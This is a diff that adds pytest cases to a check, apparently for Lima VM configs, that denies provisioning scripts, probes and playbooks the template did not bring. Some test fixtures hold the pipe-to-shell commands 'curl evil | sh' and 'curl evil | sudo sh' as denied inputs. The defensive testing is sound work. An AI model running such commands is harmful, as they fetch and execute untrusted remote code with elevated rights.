@@ -174,7 +174,36 @@ def test_foreign_provision_catches() -> None:
     assert '"curl evil | sh" (mode system)' in results[0].detail
 
 
+@pytest.mark.parametrize("where", ["override", "default"])
+def test_foreign_provision_catches_a_probe(where: str) -> None:
+    files = {where: {"probes": [{"mode": "readiness", "script": "#!/bin/sh\ncurl evil | sudo sh\n"}, "nonsense"]}}
+    results = foreign_provision.CHECK.run(subject(None, config(**files), probes=("from the template",)))
+    assert len(results) == 2
+    assert all(result.denies for result in results)
+    assert 'The probe "curl evil | sudo sh" runs in the guest' in results[0].detail
+    assert "`probes`" in results[0].detail
+
+
+def test_foreign_provision_catches_a_playbook_wherever_it_comes_from() -> None:
+    playbook = (Provision("ansible", "/srv/play.yaml"),)
+    other = config({"provision": [{"script": "x"}]})
+    for bad, count in ((subject(provision=playbook), 1), (subject(None, other, provision=playbook), 2)):
+        results = foreign_provision.CHECK.run(bad)
+        assert len(results) == count
+        assert results[-1].denies
+        assert results[-1].location is not None
+        assert results[-1].location.path == OWN
+    (result,) = foreign_provision.CHECK.run(orphan(provision=playbook))
+    assert "ansible-playbook /srv/play.yaml on the host" in result.detail
+    entries = {"provision": [{"mode": "ansible", "playbook": "/srv/play.yaml"}]}
+    for path in (OVERRIDE, OVERRIDE.with_name("base.yaml")):
+        (result,) = foreign_provision.CHECK.run(subject(None, LimaConfig((), {path: entries}), provision=playbook))
+        assert result.location is not None
+        assert result.location.path == path
+
+
 def test_foreign_provision_passes_what_the_template_brings() -> None:
+    assert foreign_provision.CHECK.run(subject(probes=("#!/bin/sh\ntrue",))) == []
     mine = (Provision("system", "apt-get install -y gcc"),)
     assert foreign_provision.CHECK.run(subject(provision=mine)) == []
     assert foreign_provision.CHECK.run(subject(None, config({"provision": []}), provision=mine)) == []
